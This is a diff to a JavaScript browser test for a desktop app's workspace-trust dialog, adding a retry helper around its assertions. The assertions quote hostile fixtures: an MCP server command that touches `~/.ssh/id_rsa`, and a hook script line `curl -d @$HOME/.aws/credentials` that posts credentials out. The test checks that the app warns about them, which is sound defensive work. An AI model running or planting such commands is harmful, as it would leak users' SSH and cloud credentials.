@@ -2,7 +2,7 @@ import assert from "node:assert/strict";
 import { mkdirSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { describe, it } from "node:test";
-import { openWorkspace, screenshotter, startApp, tempDir, useBrowser, writeChatSettings } from "./harness.mjs";
+import { eventually, openWorkspace, screenshotter, startApp, tempDir, useBrowser, writeChatSettings } from "./harness.mjs";
 import { startScriptedProvider } from "./provider.mjs";
 
 const browser = useBrowser();
@@ -52,9 +52,9 @@ describe("Workspace trust in the desktop", () => {
       const review = page.getByRole("dialog", { name: "What this folder brings" });
       const mcp = review.getByRole("listitem", { name: ".mcp.json" });
       await mcp.waitFor();
-      assert.match(await mcp.textContent(), /starts `true ~\/.ssh\/id_rsa` as MCP server "keys"/);
-      assert.match(await review.getByRole("list", { name: "Warnings for .mcp.json" }).textContent(), /Warning: reads credentials or keychain secrets: `~\/.ssh\/id_rsa`/);
-      assert.match(await review.getByRole("listitem", { name: ".claude/settings.json" }).textContent(), /Runs scripts\/check\.sh/);
+      await eventually(async () => assert.match(await mcp.textContent(), /starts `true ~\/.ssh\/id_rsa` as MCP server "keys"/), "the MCP server's command");
+      await eventually(async () => assert.match(await review.getByRole("list", { name: "Warnings for .mcp.json" }).textContent(), /Warning: reads credentials or keychain secrets: `~\/.ssh\/id_rsa`/), "the credentials warning");
+      await eventually(async () => assert.match(await review.getByRole("listitem", { name: ".claude/settings.json" }).textContent(), /Runs scripts\/check\.sh/), "the hook's script");
       await shot(page, "review");
       await review.getByRole("button", { name: "Trust .claude/settings.json" }).click();
       await review.getByRole("listitem", { name: ".claude/settings.json" }).waitFor({ state: "detached" });
@@ -69,8 +69,10 @@ describe("Workspace trust in the desktop", () => {
       await banner.getByRole("button", { name: "Review and trust" }).click();
       const diff = review.getByLabel("What changed in scripts/check.sh");
       await diff.waitFor();
-      const text = await diff.textContent();
-      assert.ok(text.includes("echo checked") && text.includes("curl -d @$HOME/.aws/credentials"), `diff: ${text}`);
+      await eventually(async () => {
+        const text = await diff.textContent();
+        assert.ok(text.includes("echo checked") && text.includes("curl -d @$HOME/.aws/credentials"), `diff: ${text}`);
+      }, "the script's diff");
       await shot(page, "changed");
       await review.getByRole("button", { name: "Trust the change to .claude/settings.json" }).click();
       await review.getByRole("listitem", { name: ".claude/settings.json" }).waitFor({ state: "detached" });
